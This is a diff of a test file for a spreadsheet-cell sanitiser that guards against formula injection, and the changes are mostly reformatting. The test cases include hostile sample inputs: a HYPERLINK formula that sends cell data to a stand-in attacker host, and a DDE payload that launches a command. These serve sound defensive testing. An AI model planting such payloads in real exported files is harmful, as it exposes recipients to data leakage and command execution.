@@ -3,13 +3,14 @@ import { describe, expect, it } from 'vitest';
 import { neutraliseCell } from './spreadsheet-cells.ts';
 
 const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];
-const isPlainNumber = (text: string) => text.trim() === text && text !== '' && Number.isFinite(Number(text)) && !/^[+-]?0[xob]/i.test(text) && !/^[+-]?Infinity$/.test(text);
+const isPlainNumber = (text: string) =>
+  text.trim() === text && text !== '' && Number.isFinite(Number(text)) && !/^[+-]?0[xob]/i.test(text) && !/^[+-]?Infinity$/.test(text);
 
 describe('neutraliseCell', () => {
   it.each([
     ['=1+1', "'=1+1"],
     ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
-    ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
+    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
     ['-2+3', "'-2+3"],
     ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
     ['\t=1', "'\t=1"],
@@ -30,7 +31,10 @@ describe('neutraliseCell', () => {
   });
 
   it('never leaves text that starts like a formula unless it is only a number', () => {
-    const text = fc.oneof(fc.string(), fc.tuple(fc.constantFrom(...DANGEROUS), fc.string()).map(([head, tail]) => head + tail));
+    const text = fc.oneof(
+      fc.string(),
+      fc.tuple(fc.constantFrom(...DANGEROUS), fc.string()).map(([head, tail]) => head + tail),
+    );
     fc.assert(
       fc.property(text, (value) => {
         const written = neutraliseCell(value) as string;
